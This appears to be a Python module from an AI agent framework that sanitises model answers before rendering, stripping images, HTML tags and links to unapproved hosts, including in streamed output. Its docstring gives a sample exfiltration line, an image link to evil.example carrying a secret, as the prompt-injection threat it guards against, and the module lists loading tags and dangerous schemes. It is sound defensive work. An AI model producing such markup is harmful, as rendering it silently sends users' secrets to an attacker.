"""Answers made harmless before anyone renders them: pictures, markup and links that would call home. Pure.

Threat: a model that was told to write `![](https://evil.example/?q=SECRET)`: the moment a chat window renders it, the
secret is sent, with no tool call to deny. Pictures to addresses that the rules do not let through lose them, markup that could
load or lead somewhere loses its bracket, links keep their words and show the address as text. Readers disagree on what is a
picture: whatever one of them could take for one counts as one (`tests/property/test_answers.py` holds a real renderer beside it).
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlsplit

from agent_os.guards.models.neutral import Delta

HELD_CHARS_MAX: Final = 8192
"""A candidate longer than this is passed on with its brackets broken, so that no renderer takes it for a picture."""

_SKIP: Final = r"[\s>]*+"
"""What may stand before a target: spaces, line ends, and the marks of a quotation that goes over several lines."""
_TARGET: Final = re.compile(_SKIP + r"(?:<([^<>\n]*+)>?|([^()\s<>]*+))")
_LINK: Final = re.compile(r"(!?)\[([^\[\]]*)\]\(" + _SKIP + r"(?:<([^<>\n]*+)>?|([^()\s<>]*+))[^()]*+\)")
_DEFINED: Final = re.compile(_SKIP + r"(?:<[^<>\n]*+>|[^<\s]\S*+)\s")
_TOKEN: Final = re.compile(r"\n[ \t>]*\n|!?\[|\][(:]?")
_LINES: Final = r"\n(?![ \t>]*\n)"
_TAG: Final = re.compile(
    r"<\s{0,16}(?![a-z][a-z0-9+.-]{1,31}:[^\s<>]*>)(?=[a-z])([a-z][^\s/>\"'<]*)"
    rf"((?:[^\"'>\n]|{_LINES}|\"(?:[^\"\n]|{_LINES})*\"|'(?:[^'\n]|{_LINES})*')*)(>?)",
    re.I,
)
"""A tag up to its end, or to where its paragraph or an open quotation ends; an address in angle brackets is none."""
_LOADS: Final = frozenset({
    "img", "image", "iframe", "frame", "object", "embed", "applet", "script", "link", "video", "audio", "source", "track", "svg",
    "style", "base", "meta", "picture", "portal", "bgsound", "input", "use", "feimage", "math", "template", "noscript", "form",
})  # fmt: skip
_LEADS: Final = re.compile(r"[/\\]{2}|\\|&|(?:https?|wss?|ftp|javascript|data):|url\(|@import|image-set|srcdoc", re.I)
_BLANK: Final = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\u2060\ufeff]+")
_STRANGE: Final = "[](<>\\:"

_ENDS: Final = r"\s<>()\[\]\"'`"
_BARE: Final = re.compile(rf"(?:(?:https?|ftp)://|\bwww\.)[^{_ENDS}]{{1,4000}}", re.I)
_BARE_TAIL: Final = re.compile(
    rf"(?:^|[{_ENDS}])((?:(?:https?|ftp)://|www\.)[^{_ENDS}]*|(?:h|ht|htt|https?|f|ft|ftp)(?::/?)?|w|ww|www)$", re.I
)
"""An address that may go on, or the letters that may begin one, at the end of a piece."""

Allows = Callable[[str], bool]


@dataclass(frozen=True, slots=True)
class Rules:
    """Which absolute addresses may stay: in what loads by itself, in links; `bare`: also those that are only written out."""

    image: Allows
    link: Allows
    bare: bool = False

    @staticmethod
    def of_hosts(allowed: Allows, *, bare: bool = False) -> Rules:
        """Return rules for pictures and links alike, by host."""

        def may(address: str) -> bool:
            return allowed(urlsplit(address).hostname or "")

        return Rules(may, may, bare)


def defanged(text: str, rules: Rules) -> str:
    """Return a text whose pictures, markup and links to addresses not allowed are words. Relative targets stay."""
    if "<" in text:
        text = _TAG.sub(lambda match: _tag(match, rules), text)
    if "]" in text:
        text = _LINK.sub(lambda match: _link(match, rules), text)
        text = _brackets(text, rules)
    if rules.bare and ("://" in text or "www." in text.lower()):
        text = _BARE.sub(lambda match: match[0] if _bare_stays(match[0], rules) else _shown(match[0]), text)
    return text


def _tag(match: re.Match[str], rules: Rules) -> str:
    """Return a tag as it is, or with its bracket broken where it is not closed, loads by itself, or leads somewhere strange."""
    name, inside, closed = match.groups()
    if not closed:
        return "< " + match[0][1:].replace("<", "< ")
    if name.lower() not in _LOADS:
        plain = _BLANK.sub("", html.unescape(inside) if "&" in inside else inside)
        if not _LEADS.search(plain):
            return match[0]
        hosts = re.findall(r"https?://([^\"'<>/?#\\]+)", plain, re.I)
        rest = re.sub(r"https?://[^\"'<>]*", "", plain, flags=re.I)
        if hosts and not _LEADS.search(rest) and all(rules.link(f"https://{host}/") for host in hosts):
            return match[0]
    return match[0].replace("<", "&lt;")


def _link(match: re.Match[str], rules: Rules) -> str:
    picture, words, target = match[1], match[2], match[3] if match[3] is not None else match[4]
    if _stays(target, rules.image if picture else rules.link):
        return match[0]
    return f"[picture withheld: {words or _shown(target)}]" if picture else f"{words} ({_shown(target)})"


def _brackets(text: str, rules: Rules) -> str:
    """Return a text in which what no simple pattern told is judged by its brackets: nested words, references, definitions."""
    edits: list[tuple[int, int, str]] = []
    opened: list[tuple[int, bool]] = []
    images, judged = 0, 0
    for token in _TOKEN.finditer(text):
        mark, place = token[0], token.start()
        if place < judged:
            continue  # inside a target: it stays with it, or goes with it
        if mark[0] == "\n":
            opened, images = [], 0
        elif mark[-1] == "[":
            opened.append((place, mark[0] == "!"))
            images += mark[0] == "!"
        else:
            strict = not opened or images > 0
            begin, picture = opened.pop() if opened else (place, False)
            images -= picture
            if mark == "]" and picture:
                edits.append((begin, begin + 1, "! "))  # by reference: what it shows stands elsewhere
            elif mark != "]":
                found = _TARGET.match(text, token.end())
                target = (found[1] if found[1] is not None else found[2]) if found is not None else ""
                judged = found.end() if found is not None else judged
                allows = rules.image if strict and mark == "](" else rules.link
                if found is not None and not _stays(target, allows):
                    edits.append((place, found.end(), f"] {mark[1]}{_shown(target)}"))
    if not edits:
        return text
    parts, at = [], 0
    for begin, end, instead in sorted(edits):
        if begin >= at:
            parts += [text[at:begin], instead]
            at = end
    return "".join([*parts, text[at:]])


def _shown(target: str) -> str:
    return (
        html.unescape(target)
        .replace("://", "[:]//")
        .replace(".", "[.]")
        .replace("<", "‹")
        .replace("](", "] (")
        .replace("]:", "] :")
    )


def _bare_stays(address: str, rules: Rules) -> bool:
    return _stays(address if "://" in address else f"https://{address}", rules.link)


def _stays(target: str, allows: Allows) -> bool:
    """Return whether a target may stay: a relative one that every reader takes for one, a mail address, an allowed one."""
    plain = _BLANK.sub("", html.unescape(target) if "&" in target else target)
    try:
        parts = urlsplit(plain)
        host = parts.hostname or ""
    except ValueError:
        return False
    if "\\" in plain:
        return False
    if parts.scheme == "" and not plain.startswith("//"):
        return not any(char in plain for char in _STRANGE)  # a relative target, and no construct inside it
    return parts.scheme == "mailto" or (parts.scheme in ("http", "https") and bool(host) and allows(plain))


class Defang:
    """The same for a stream: holds back what could still become a picture, a link or an element."""

    def __init__(self, rules: Rules) -> None:
        self._rules, self._held = rules, ""

    def feed(self, delta: Delta) -> list[Delta]:
        """Take one piece and return what may be shown now, in order."""
        if delta.kind == "finish":
            return [*self.flush(), delta]
        if delta.kind != "text":
            return [*self.pause(), delta] if delta.kind == "tool" else [delta]
        ready = self.text(delta.text)
        return [Delta("text", ready)] if ready else []

    def text(self, piece: str) -> str:
        """Take a piece of the text and return what may be shown of it now."""
        text = self._held + piece
        cut = _open_end(text)
        if self._rules.bare:
            tail = _BARE_TAIL.search(text[:cut], max(0, cut - HELD_CHARS_MAX))
            cut = tail.start(1) if tail else cut
        self._held = text[cut:]
        ready = defanged(text[:cut], self._rules)
        if len(self._held) > HELD_CHARS_MAX:
            ready, self._held = ready + self._broken(), ""
        return ready

    def rest(self) -> str:
        """Return what was held when nothing more can come."""
        held, self._held = defanged(self._held, self._rules), ""
        return held

    def flush(self) -> list[Delta]:
        """Return the same as a piece."""
        held = self.rest()
        return [Delta("text", held)] if held else []

    def pause(self) -> list[Delta]:
        """Return what was held when something else comes between, so that what follows cannot complete it.

        Readers put the pieces of a text together whatever stood between them: `![x]`, a tool call, `(https://…)`.
        """
        if not self._held:
            return []
        held, self._held = self._broken().replace("[", "\\[").replace("]", "\\]"), ""
        return [Delta("text", held + ("" if held[-1].isspace() else " "))]

    def _broken(self) -> str:
        text = defanged(self._held, self._rules)
        for mark, broken in (("![", "! ["), ("](", "] ("), ("]:", "] :"), ("<", "< ")):
            text = text.replace(mark, broken)
        return text.removesuffix("]") + "] " if text.endswith("]") else text


def _open_end(text: str) -> int:
    """Return where the first construct begins that is not closed yet; the length of the text if none is open."""
    end = min([*_open_tags(text), *_open_brackets(text), len(text)])
    return end - 1 if end and text[:end].endswith("!") else end


def _open_tags(text: str) -> Iterator[int]:
    last = text.rfind("<")
    if last >= 0 and not text[last + 1 :].strip():
        yield last
    for match in _TAG.finditer(text):
        if match.end() == len(text) and not match[3]:
            yield match.start()
        elif not match[3] and text[match.end() : match.end() + 1] in ('"', "'"):
            yield match.start()  # a quotation that may still be closed


def _open_brackets(text: str) -> Iterator[int]:
    opened: list[int] = []
    for token in _TOKEN.finditer(text):
        mark, place = token[0], token.start()
        if mark[0] == "\n":
            opened = []
        elif mark[-1] == "[":
            opened.append(place)
        else:
            begin = opened.pop() if opened else place
            if _unfinished(text, token):
                yield min([begin, *opened])
                return
    yield from opened[:1]


def _unfinished(text: str, token: re.Match[str]) -> bool:
    """Return whether what follows a closing bracket may still become its target."""
    if token.end() == len(text):
        return True
    if token[0] == "]":
        return False
    blank = re.compile(r"\n[ \t>]*\n").search(text, token.end())
    if token[0] == "](":
        return text.find(")", token.end()) < 0 and blank is None
    return _DEFINED.match(text, token.end()) is None and blank is None
